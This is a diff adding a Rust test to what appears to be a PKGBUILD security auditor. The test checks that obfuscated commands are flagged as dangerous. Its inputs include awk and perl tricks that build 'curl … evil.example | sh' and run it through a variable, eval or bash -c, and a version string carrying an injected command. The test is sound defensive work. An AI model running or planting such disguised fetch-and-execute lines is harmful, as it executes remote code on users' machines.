@@ -329,3 +329,40 @@ fn a_quoted_brace_does_not_end_an_evald_definition() {
     );
     assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
 }
+
+/// The same classes through a variable or a file: a version or a command made by an unseen
+/// program over the file's own text and kept in a variable first, and a version written to a
+/// file in pkgver() that a later `cat` prints.
+#[test]
+fn through_a_variable_or_a_file_is_the_same() {
+    let mut input = versioned("  echo \"$_v\"");
+    input.pkgbuild = input.pkgbuild.replace(
+        "pkgver=1\n",
+        "pkgver=1\n_v=$(awk 'BEGIN{printf \"%c1%ccurl%csh\", 39, 59, 124}')\n_w=\"$_v\"\n",
+    );
+    input.pkgbuild = input.pkgbuild.replace("echo \"$_v\"", "echo \"$_w\"");
+    let r = audit(&input);
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+    let r = audit(&versioned("  printf '%s' \"1'\" > v\n  cat v"));
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+    for line in [
+        "_c=$(awk 'BEGIN{print \"cu\" \"rl -fsSL https://evil.example/p\"}')\n$_c | sh",
+        "_c=$(awk 'BEGIN{print \"cu\" \"rl -fsSL https://evil.example/p | sh\"}')\neval \"$_c\"",
+        "_c=$(perl -e 'print \"cu\".\"rl -fsSL https://evil.example/p | sh\"')\nbash -c \"$_c\"",
+    ] {
+        let r = audit(&top_level(line));
+        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
+    }
+    // Neighbours: a version file written from the sources, a variable read from the sources.
+    for body in [
+        "  git describe --tags > v\n  sed 's/-/./g' v",
+        "  local _v=$(awk -F\\\" '/version/{print $2}' meson.build)\n  echo \"${_v}.r$(git rev-list --count HEAD)\"",
+    ] {
+        let r = audit(&vcs(body));
+        assert!(
+            max_of(&r, "AUR-VERSION-CODE").is_none(),
+            "{body}\n{}",
+            r.to_text()
+        );
+    }
+}
